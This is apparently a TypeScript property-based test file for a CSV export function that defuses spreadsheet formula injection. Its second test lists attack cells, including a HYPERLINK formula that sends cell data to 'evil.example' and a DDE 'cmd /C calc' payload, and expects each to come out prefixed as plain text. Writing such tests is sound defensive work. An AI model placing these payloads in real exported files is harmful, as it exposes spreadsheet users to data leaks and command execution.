import fc from 'fast-check';
import { expect, test } from 'vitest';
import { spreadsheetOf } from '../../../shared/domain/spreadsheet.ts';

/** A reader by RFC 4180, as spreadsheets are. */
const read = (text: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 1; at < text.length; at += 1) {
    const character = text[at] ?? '';
    if (quoted && character === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (character === '"') quoted = !quoted;
    else if (!quoted && character === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && text.startsWith('\r\n', at)) {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      at += 1;
    } else cell += character;
  }
  expect([quoted, cell, row]).toEqual([false, '', []]);
  return rows;
};

test('what begins like a formula is text, and everything else is read back as it was', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'grapheme', maxLength: 12 }),
    fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' =', '＝'), fc.string({ maxLength: 8 })).map((parts) => parts.join('')),
    fc.integer(),
  );
  fc.assert(
    fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 5 }), (rows) => {
      const text = spreadsheetOf(rows);
      expect(text.startsWith('\uFEFF')).toBe(true);
      const back = read(text);
      expect(back).toHaveLength(rows.length);
      for (const [index, row] of rows.entries())
        for (const [place, original] of row.entries()) {
          const found = back[index]?.[place] ?? '';
          if (typeof original === 'number') expect(found).toBe(String(original));
          else {
            expect(found).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/);
            expect([original, `'${original}`]).toContain(found);
          }
        }
    }),
  );
});

test('known ways into a spreadsheet are closed', () => {
  const rows = [
    [
      '=HYPERLINK("https://evil.example/?"&A1,"open")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,1)',
      '\t=1',
      '\r=1',
      ' =1',
      '正常, "引号"',
      -3,
    ],
  ];
  expect(spreadsheetOf(rows)).toBe(
    `\uFEFF"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",'+cmd|' /C calc'!A0,'-2+3,"'@SUM(1,1)",'\t=1,"'\r=1",' =1,"正常, ""引号""",-3\r\n`,
  );
});
